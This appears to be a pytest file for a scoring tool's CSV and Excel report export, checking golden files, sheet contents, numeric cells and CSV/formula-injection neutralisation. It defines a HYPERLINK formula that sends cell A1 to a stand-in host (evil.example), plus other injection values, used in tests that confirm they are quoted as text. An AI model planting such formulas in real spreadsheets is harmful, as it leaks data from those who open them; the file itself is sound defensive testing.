"""Spreadsheets and CSV: re-read with openpyxl, a golden CSV, formula injection neutralised, numbers kept."""

from __future__ import annotations

import csv
import io
import os
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from reports.report_data import ReportOptions
from reports.tabular import PortfolioEntry, answers_csv, portfolio_csv, question_rows, safe_cell
from reports.xlsx import portfolio_xlsx, report_xlsx
from scoring import load_questionnaire, score
from scoring.answers import from_json_value
from tests.conftest import FIXTURES
from tests.report_support import bundled, sample_result
from tests.test_cli_score import WORKED_ANSWERS

GOLDEN = Path(__file__).resolve().parent / "golden_reports"
HYPERLINK = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'


def worked_result(company: str = "Example Trading Co.") -> dict[str, Any]:
    questionnaire = load_questionnaire(FIXTURES / "worked.yaml")
    meta = {"company": company, "language": "en", "date": "2026-03-02"}
    answers = {key: from_json_value(value) for key, value in WORKED_ANSWERS.items()}
    return score(questionnaire, answers, language="en", meta=meta).to_dict()


def golden(name: str, data: bytes) -> None:
    """Compare with the stored file; UPDATE_GOLDEN=1 rewrites it (then read the diff before committing)."""
    path = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN"):
        path.write_bytes(data)
    assert data == path.read_bytes()


def test_answers_csv_matches_the_golden_file() -> None:
    golden("worked_answers.csv", answers_csv(worked_result()))


def test_portfolio_csv_matches_the_golden_file() -> None:
    questionnaire = load_questionnaire(FIXTURES / "worked.yaml")
    entries = [PortfolioEntry("a.json", worked_result()), PortfolioEntry("b.json", worked_result("=SUM(A1:A9)"))]
    golden("worked_portfolio.csv", portfolio_csv(questionnaire, entries, "en"))


def test_csv_text_that_looks_like_a_formula_is_quoted_and_negative_numbers_stay_numbers() -> None:
    result = worked_result()
    result["questions"][0]["text"] = HYPERLINK
    result["questions"][1]["score"] = -5
    rows = list(csv.reader(io.StringIO(answers_csv(result).decode("utf-8-sig"))))
    assert rows[1][3] == "'" + HYPERLINK
    assert rows[2][6] == "-5"
    assert [safe_cell(v) for v in ("@cmd", "+1", "-x", "\tx", "ok", -5, 0.5)] == [
        "'@cmd",
        "'+1",
        "'-x",
        "'\tx",
        "ok",
        -5,
        0.5,
    ]


def test_question_rows_keep_their_columns() -> None:
    rows = question_rows(worked_result())
    assert rows[1]["question_id"] == "tm_registered" and rows[1]["answer"] == "hk" and rows[1]["score"] == 60


def sheet_rows(data: bytes) -> dict[str, list[tuple[Any, ...]]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return {sheet.title: list(sheet.iter_rows(values_only=True)) for sheet in book.worksheets}


def test_xlsx_holds_answers_question_scores_section_scores_and_the_plan() -> None:
    result = sample_result("en")
    sheets = sheet_rows(report_xlsx(bundled(), result, ReportOptions(adviser="Chan")))
    assert list(sheets) == ["Summary", "Answers", "Question scores", "Section scores", "Action plan"]
    shown = [q for q in result["questions"] if q["status"] != "hidden"]
    assert len(sheets["Answers"]) == len(shown) + 1
    # Answers as the respondent saw them: option labels, not codes.
    sector = next(row for row in sheets["Answers"] if row[1] == "sector")
    assert sector[3] == "Other"
    scored = {row[1]: row for row in sheets["Question scores"][1:]}
    for q in shown:
        assert scored[q["id"]][4] == q["score"] and scored[q["id"]][6] == q["contribution"]
    sections = {row[0]: row for row in sheets["Section scores"][1:]}
    assert all(sections[s["id"]][3] == s["score"] for s in result["sections"] if s["status"] == "assessed")
    assert len(sheets["Action plan"]) == len(result["recommendations"]) + 1
    summary = dict(sheets["Summary"][1:])
    assert summary["Overall score"] == result["overall"] and summary["Adviser"] == "Chan"


def test_xlsx_neutralises_formulas_and_keeps_a_change_of_minus_5_a_number() -> None:
    result = worked_result(company=HYPERLINK)
    previous = worked_result()
    previous["sections"][1]["score"] = result["sections"][1]["score"] + 5
    book = openpyxl.load_workbook(
        io.BytesIO(report_xlsx(load_questionnaire(FIXTURES / "worked.yaml"), result, previous=previous))
    )
    company = book["Summary"]["B2"]
    assert company.value == "'" + HYPERLINK and company.data_type == "s"
    assert not [cell.coordinate for sheet in book for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    header = [cell.value for cell in book["Section scores"][1]]
    change = book["Section scores"].cell(row=2, column=header.index("Change") + 1)
    assert change.value == -5 and change.data_type == "n"


def test_portfolio_xlsx_has_one_row_per_assessment_with_numbers() -> None:
    results = [sample_result("en", seed=seed, company=f"Company {seed}") for seed in range(3)]
    entries = [PortfolioEntry(f"{n}.json", result) for n, result in enumerate(results)]
    rows = sheet_rows(portfolio_xlsx(bundled(), entries, "zh-Hant"))["評估一覽"]
    assert len(rows) == 4
    header = rows[0]
    assert header[:2] == ("來源檔案", "公司")
    overall = header.index("整體評分")
    assert [row[overall] for row in rows[1:]] == [r["overall"] for r in results]
    assert all(isinstance(row[overall], float) for row in rows[1:])


@pytest.mark.parametrize("bad", ["=1+1", "+1", "-1", "@SUM(A1)"])
def test_a_company_name_that_is_a_formula_stays_text_in_the_portfolio(bad: str) -> None:
    entries = [PortfolioEntry("a.json", worked_result(company=bad))]
    book = openpyxl.load_workbook(
        io.BytesIO(portfolio_xlsx(load_questionnaire(FIXTURES / "worked.yaml"), entries, "en"))
    )
    cell = book.active["B2"]
    assert cell.value == "'" + bad and cell.data_type == "s"
